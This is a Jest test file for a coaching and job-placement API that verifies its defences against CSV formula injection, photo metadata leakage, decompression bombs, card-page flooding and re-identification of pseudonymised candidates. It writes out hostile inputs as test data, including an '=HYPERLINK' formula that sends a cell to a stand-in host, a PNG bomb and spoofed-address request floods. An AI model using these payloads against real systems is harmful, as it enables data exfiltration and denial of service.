import { readdirSync, readFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { addDays, parisToday } from '@passerelle/coaching';
import { SyncOffersIndex } from '@passerelle/matching';
import {
  as as asUser,
  createTestContext,
  diagnosedPerson,
  personValidatedCard,
  jpegPhoto,
  pngBomb,
  pngImage,
  offerOfNewEmployer,
  seedOrganisation,
  startApi,
  type RunningApi,
  type TestContext,
  type TestOrganisation,
  type TestUser,
} from '@passerelle/testing';

const today = parisToday();
const CANARY = 'CANARY-5e1b';
const CARD_PER_ADDRESS = 8;
const CARD_PER_LINK = 5;

interface Candidate {
  ref: string;
  revealed: boolean;
  beneficiaryId: string | null;
  hasReferent: boolean;
  referentName: string | null;
  explanation: { distanceKm: number | null; distanceBand: string; parts: object | null };
}

/** Waits out the end of a one-minute rate window, so a burst is counted in one window. */
async function awayFromWindowEnd(): Promise<void> {
  const second = (Date.now() / 1000) % 60;
  if (second > 40) await new Promise((resolve) => setTimeout(resolve, (60.5 - second) * 1000));
}

/**
 * Item 8 of the security issue, each defence by its attack: formulas in a CSV export, metadata
 * surviving in an uploaded photo, a flood on the public card pages (two API processes sharing the
 * limit), and a pseudonymised candidate list precise enough to tell who is behind the pseudonym.
 */
describe('small defences: CSV formulas, photo metadata, card page rate limits, pseudonymised candidates', () => {
  let context: TestContext;
  let api: RunningApi;
  let otherApi: RunningApi;
  let org: TestOrganisation;
  let db: DataSource;
  let offerId: string;
  let personId: string;
  let introductionId: string;

  const as = (user: TestUser) => asUser(api, user);
  const upload = (data: Buffer, name: string, type: string) =>
    request(api.url)
      .put(`/beneficiaries/${personId}/photo`)
      .auth(org.users.coachLille.accessToken, { type: 'bearer' })
      .attach('photo', data, { filename: name, contentType: type });
  const photoFiles = (): string[] => readdirSync(path.join(context.config.dataDir, 'photos'));
  const newCardPath = async (): Promise<string> => {
    const link = await as(org.users.staffNord).post(`/introductions/${introductionId}/links`).expect(201);
    return new URL((link.body as { url: string }).url).pathname;
  };

  beforeAll(async () => {
    context = await createTestContext({
      referential: true,
      env: {
        CARD_RATE_LIMIT_PER_MINUTE: String(CARD_PER_ADDRESS),
        CARD_LINK_RATE_LIMIT_PER_MINUTE: String(CARD_PER_LINK),
      },
    });
    api = await startApi(context.config);
    // A second API process on the same Redis: rate limits must hold across replicas.
    otherApi = await startApi(context.config);
    org = await seedOrganisation(api);
    db = api.app.get(DataSource);
    const coach = as(org.users.coachLille);
    offerId = await offerOfNewEmployer(
      api.url,
      org.users.staffNord,
      'Boulangerie Paul',
      'Vendeur en boulangerie',
      'D1106',
    );
    personId = await diagnosedPerson(api.url, org.users.coachLille, 'Boulangere', {
      romeCode: 'D1106',
      contractTypes: ['cdi'],
    });
    for (const purpose of ['share_profile_with_employers', 'photo'])
      await coach.post(`/beneficiaries/${personId}/consents`, { purpose }).expect(201);
    const proposed = await coach.post('/introductions', { beneficiaryId: personId, offerId }).expect(201);
    introductionId = (proposed.body as { id: string }).id;
    await coach.post(`/introductions/${introductionId}/transitions`, { to: 'accepted' }).expect(200);
    await personValidatedCard(api.url, context.dataDir, org.users.coachLille, {
      beneficiaryId: personId,
      introductionId,
    });
    const sync = api.app.get(SyncOffersIndex);
    await sync.prepare();
    await sync.execute();
    // Two API processes, the referential and an index sync: slow on a busy machine.
  }, 240_000);

  afterAll(async () => {
    await otherApi?.close();
    await api?.close();
    await context?.cleanup();
  });

  describe('CSV export', () => {
    it('writes a structure and a coach named as formulas as inert text prefixed with a quote, and figures as plain numbers', async () => {
      const structure = await as(org.admin)
        .post('/structures', {
          name: '=HYPERLINK("http://x/?"&A1)',
          kind: 'local_office',
          parentId: org.structures.nord,
        })
        .expect(201);
      await as(org.admin).patch(`/users/${org.users.coachNord.id}`, { displayName: '@SUM(1)' }).expect(200);
      await db.query(
        `INSERT INTO beneficiary (structure_id, referent_user_id, first_name, last_name, orientation_date, status,
           commune_insee)
         VALUES ($1, $2, 'Csv', 'Formule', $3, 'in_coaching', '59350')`,
        [(structure.body as { id: string }).id, org.users.coachNord.id, addDays(today, -10)],
      );
      const period = `from=${addDays(today, -60)}&to=${today}`;
      const export_ = async (groupBy: string): Promise<string[]> => {
        const csv = await as(org.users.managerNord)
          .get(`/indicators/export.csv?${period}&groupBy=${groupBy}`)
          .expect(200);
        expect(csv.headers['content-type']).toContain('text/csv');
        return csv.text
          .replace(/^\uFEFF/, '')
          .trim()
          .split('\n');
      };

      const byStructure = await export_('structure');
      const formulaRows = byStructure.filter((line) => line.includes('HYPERLINK'));
      expect(formulaRows.length).toBeGreaterThan(0);
      for (const line of formulaRows) expect(line).toContain(`;"'=HYPERLINK(""http://x/?""&A1)";`);
      // The figures are numbers, not guarded text: one person followed, no introduction yet.
      expect(formulaRows.find((line) => line.includes(';introductions_per_person;'))).toMatch(/;0;1;0(;|$)/);
      const byCoach = await export_('coach');
      expect(byCoach.some((line) => line.includes(`;'@SUM(1);`))).toBe(true);
      // No cell of either export starts a formula.
      for (const line of [...byStructure, ...byCoach]) expect(line).not.toMatch(/(^|;)"?[=+@-]/);
    });
  });

  describe('photos', () => {
    it('keeps none of a JPEG’s EXIF (GPS), comments, segments between scans, embedded image or trailing bytes, stored or served', async () => {
      const photo = await jpegPhoto(640, 480, CANARY);
      expect(photo.toString('latin1').split(CANARY).length - 1).toBeGreaterThanOrEqual(6);
      const stored = await upload(photo, 'moi.jpg', 'image/jpeg').expect(200);
      expect(stored.body).toMatchObject({ contentType: 'image/jpeg', width: 640, height: 480 });

      const served = (await as(org.users.coachLille).get(`/beneficiaries/${personId}/photo`).buffer(true).expect(200))
        .body as Buffer;
      const card = (
        await request(api.url)
          .get(`${await newCardPath()}/photo`)
          .buffer(true)
          .expect(200)
      ).body as Buffer;
      const [file] = photoFiles();
      const onDisk = readFileSync(path.join(context.config.dataDir, 'photos', file));
      for (const bytes of [served, card, onDisk]) {
        expect(bytes.toString('latin1')).not.toContain(CANARY);
        expect(bytes.toString('latin1')).not.toContain('Exif');
        const metadata = await sharp(bytes).metadata();
        expect(metadata).toMatchObject({ format: 'jpeg', width: 640, height: 480 });
        expect(metadata.exif).toBeUndefined();
        expect(metadata.comments).toBeUndefined();
        // One image: no second start-of-image marker, nothing after the end marker.
        expect(bytes.indexOf(Buffer.from([0xff, 0xd8]), 2)).toBe(-1);
        expect(bytes.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
      }
    });

    it('keeps none of a PNG’s text chunk or private chunk', async () => {
      await upload(pngImage(200, 160, `${CANARY} text`, `${CANARY} private`), 'moi.png', 'image/png').expect(200);
      const served = (await as(org.users.coachLille).get(`/beneficiaries/${personId}/photo`).buffer(true).expect(200))
        .body as Buffer;
      expect(served.toString('latin1')).not.toContain(CANARY);
      expect(served.toString('latin1')).not.toMatch(/tEXt|prVt/);
      expect(await sharp(served).metadata()).toMatchObject({ format: 'png', width: 200, height: 160 });
    });

    it('refuses a decompression bomb (8000×8000 pixels in a few kilobytes) with 422 naming the photo, keeping the stored photo', async () => {
      const before = photoFiles();
      const bomb = pngBomb(8000, 8000);
      expect(bomb.length).toBeLessThan(100_000);
      const refused = await upload(bomb, 'bombe.png', 'image/png').expect(422);
      expect(refused.body).toMatchObject({
        code: 'photo.too_big',
        details: [{ field: 'photo', reason: expect.stringContaining('36 million pixels') as unknown }],
      });
      expect(photoFiles()).toEqual(before);
      await as(org.users.coachLille).get(`/beneficiaries/${personId}/photo`).expect(200);
    });
  });

  describe('card pages rate limits', () => {
    it('answers 429 with Retry-After to one address trying card tokens past its limit, across two API processes, and still serves another address', async () => {
      await awayFromWindowEnd();
      const attempt = (server: RunningApi, address: string) =>
        request(server.url)
          .get(`/cartes/${randomBytes(32).toString('base64url')}`)
          .set('X-Forwarded-For', address);
      for (let i = 0; i < CARD_PER_ADDRESS; i++)
        await attempt(i % 2 === 0 ? api : otherApi, '203.0.113.10').expect(404);
      const refused = await attempt(api, '203.0.113.10').expect(429);
      expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(60);
      expect(refused.headers['content-type']).toContain('text/html');
      expect(refused.text).toContain('Trop de demandes');
      await attempt(otherApi, '203.0.113.10').expect(429);
      await attempt(otherApi, '203.0.113.11').expect(404);
    });

    it('refuses answers flooding one card from many addresses past the per-link limit, and records none of the refused ones', async () => {
      const card = await newCardPath();
      await awayFromWindowEnd();
      const answer = (server: RunningApi, i: number) =>
        request(server.url)
          .post(card)
          .set('X-Forwarded-For', `198.51.100.${i}`)
          .type('form')
          .send({ answer: 'question', message: `Flood ${i}` });
      for (let i = 0; i < CARD_PER_LINK; i++) await answer(i % 2 === 0 ? api : otherApi, i).expect(200);
      const refused = await answer(otherApi, CARD_PER_LINK).expect(429);
      expect(refused.headers['retry-after']).toMatch(/^\d+$/);
      // Reading the card is refused as well, from yet another address.
      await request(api.url).get(card).set('X-Forwarded-For', '198.51.100.200').expect(429);
      const events: Array<{ message: string }> = await db.query(
        `SELECT details->>'message' AS message FROM introduction_event
         WHERE introduction_id = $1 AND kind = 'answered' ORDER BY at`,
        [introductionId],
      );
      expect(events.map((event) => event.message)).toEqual(
        Array.from({ length: CARD_PER_LINK }, (_, i) => `Flood ${i}`),
      );
    });
  });

  describe('pseudonymised candidates', () => {
    it('give a distance band, no exact distance or score parts, and no referent name; the person’s coach still sees them', async () => {
      const [{ display_name: referent }]: Array<{ display_name: string }> = await db.query(
        'SELECT display_name FROM app_user WHERE id = $1',
        [org.users.coachLille.id],
      );
      const response = await as(org.users.staffNord).get(`/offers/${offerId}/candidates`).expect(200);
      const items = (response.body as { items: Candidate[] }).items;
      expect(items.length).toBeGreaterThan(0);
      for (const item of items) {
        expect(item).toMatchObject({ revealed: false, hasReferent: true, referentName: null });
        expect(item.explanation).toMatchObject({ distanceKm: null, parts: null });
        expect(item.explanation.distanceBand).toMatch(/^(moins de|de|plus de) .* km$/);
      }
      expect(JSON.stringify(response.body)).not.toContain(referent);
      // Nor in the wording of the place (`à 12,4 km`).
      expect(JSON.stringify(response.body)).not.toMatch(/"distanceKm":\d|"nearness"|\d,\d km/);

      const own = (
        (await as(org.users.coachLille).get(`/offers/${offerId}/candidates`).expect(200)).body as {
          items: Candidate[];
        }
      ).items.find((item) => item.beneficiaryId === personId)!;
      expect(own).toMatchObject({ revealed: true, referentName: referent });
      expect(typeof own.explanation.distanceKm).toBe('number');
      expect(own.explanation.parts).toMatchObject({ nearness: expect.any(Number) as unknown });
    });
  });
});
